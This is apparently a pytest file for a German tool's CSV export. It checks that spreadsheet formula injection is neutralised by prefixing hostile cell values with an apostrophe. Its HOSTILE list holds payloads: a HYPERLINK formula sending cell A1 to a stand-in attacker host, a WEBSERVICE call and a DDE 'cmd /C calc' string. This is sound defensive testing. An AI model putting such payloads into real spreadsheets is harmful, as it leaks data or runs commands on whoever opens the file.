"""Text from the sources never becomes a live formula in a spreadsheet ik writes."""

from __future__ import annotations

import csv
import io

import pytest

from ik_testing import ik
from integrationskonzept.gaps.formats import CSV_COLUMNS
from integrationskonzept.text.cells import safe_cell

HOSTILE = ['=HYPERLINK("https://angreifer.example/?x="&A1;"klick")',
           "+WEBSERVICE(\"https://angreifer.example\")", "-2+3+cmd|' /C calc'!A0",
           "@SUMME(1;2)", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_starts_become_text(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Sprachkurs", "-3", "+5", "12,5", 7, None, "", "E-Mail"])
def test_plain_values_stay(value: object) -> None:
    assert safe_cell(value) == value


def test_gaps_csv_neutralises_titles(concept) -> None:
    hostile = [t for t in HOSTILE if "\r" not in t]  # a CR in a value is refused (IK003)
    root = concept(inhalt={"bedarfe": [
        {"id": f"b-{i}", "titel": title} for i, title in enumerate(hostile)]})
    code, text = ik("gaps", str(root), "--format", "csv")
    assert code == 0, text
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    titles = [row[CSV_COLUMNS.index("titel")] for row in rows[1:]]
    assert sorted(titles) == sorted("'" + t for t in hostile)
    assert all(not cell.startswith(("=", "+", "@")) for row in rows[1:] for cell in row
               if not cell.lstrip("+-").replace(",", "").isdigit())
